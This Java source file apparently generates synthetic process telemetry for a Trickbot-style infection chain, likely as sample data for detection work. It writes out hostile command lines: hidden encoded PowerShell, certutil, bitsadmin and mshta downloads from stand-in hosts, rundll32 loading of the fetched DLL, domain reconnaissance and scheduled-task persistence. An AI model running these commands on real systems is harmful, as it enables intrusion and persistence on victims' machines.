package karst.sample;

/**
 * An infection in the manner of Trickbot: a document starts a shell, the shell a loader, the loader
 * hides in wermgr.exe, and from there the machine is explored.
 */
final class Intrusion {
  private final Machine machine;
  private final String user;
  private long clock;

  /** Prepares an infection that begins at a time in milliseconds since the epoch. */
  Intrusion(Machine machine, String user, long start) {
    this.machine = machine;
    this.user = user;
    this.clock = start;
  }

  /** A document from a mail opens a shell, which fetches the loader; returns the loader. */
  RunningProcess openDocument() {
    RunningProcess outlook =
        machine.running(Programs.OUTLOOK, Programs.OUTLOOK.quotedPath(), user, "Medium");
    RunningProcess word =
        run(
            outlook,
            Programs.WORD,
            Programs.WORD.quotedPath()
                + " /n \"C:\\Users\\"
                + user
                + "\\Rechnung Nr. 4711, Mai.docm\"");
    RunningProcess shell =
        run(
            word,
            Programs.CMD,
            "cmd.exe /c \"powershell -w hidden -enc " + Payload.encoded("stage one", 1) + "\"");
    RunningProcess script =
        run(
            shell,
            Programs.POWERSHELL,
            "powershell  -w hidden -enc " + Payload.encoded("stage one", 1));
    run(
        script,
        Programs.CERTUTIL,
        "certutil.exe -urlcache -split -f http://192.0.2.41/images/logo.png C:\\Users\\Public\\l.dll");
    return loader(script);
  }

  /** A spreadsheet starts a script host, which fetches the loader; returns the loader. */
  RunningProcess openSpreadsheet() {
    RunningProcess explorer =
        machine.running(Programs.EXPLORER, "C:\\Windows\\Explorer.EXE", user, "Medium");
    RunningProcess excel =
        run(
            explorer,
            Programs.EXCEL,
            Programs.EXCEL.quotedPath()
                + " \"C:\\Users\\"
                + user
                + "\\Downloads\\Lieferschein.xlsm\"");
    RunningProcess host =
        run(excel, Programs.MSHTA, "mshta.exe https://cdn.example.net/a/note.hta");
    run(
        host,
        Programs.BITSADMIN,
        "bitsadmin /transfer 17 /download https://cdn.example.net/a/l.dll C:\\Users\\Public\\l.dll");
    return loader(host);
  }

  /** The loader runs and hides in wermgr.exe; returns that. */
  RunningProcess hide(RunningProcess loader) {
    return run(loader, Programs.ERROR_REPORTER, "C:\\Windows\\system32\\wermgr.exe");
  }

  /** The machine is explored by commands that shells under wermgr.exe run. */
  void explore(RunningProcess wermgr) {
    shellWith(wermgr, Programs.IPCONFIG, "ipconfig /all");
    RunningProcess net = shellWith(wermgr, Programs.NET, "net config workstation");
    run(net, Programs.NET1, "C:\\Windows\\system32\\net1 config workstation");
    shellWith(wermgr, Programs.NET, "net view /all /domain");
    shellWith(wermgr, Programs.NLTEST, "nltest /domain_trusts /all_trusts");
    shellWith(wermgr, Programs.WHOAMI, "whoami /groups");
    shellWith(wermgr, Programs.SYSTEMINFO, "systeminfo");
  }

  /** A script with a long payload keeps the machine; a task starts it again. */
  void stay(RunningProcess wermgr) {
    run(
        wermgr,
        Programs.POWERSHELL,
        "powershell.exe -NoP -NonI -W Hidden -Enc " + Payload.encoded("module " + user, 24));
    shellWith(
        wermgr,
        Programs.SCHTASKS,
        "schtasks /create /tn \"System Check, daily\" /tr \"C:\\Users\\Public\\l.exe\" /sc daily");
  }

  private RunningProcess loader(RunningProcess parent) {
    return run(
        parent, Programs.RUNDLL32, "rundll32.exe C:\\Users\\Public\\l.dll,DllRegisterServer");
  }

  private RunningProcess shellWith(RunningProcess parent, Image tool, String commandLine) {
    RunningProcess shell = run(parent, Programs.CMD, "cmd.exe /c " + commandLine);
    return run(shell, tool, commandLine);
  }

  private RunningProcess run(RunningProcess parent, Image image, String commandLine) {
    clock += 700 + machine.choose(9_000);
    return machine.start(clock, parent, image, commandLine);
  }
}
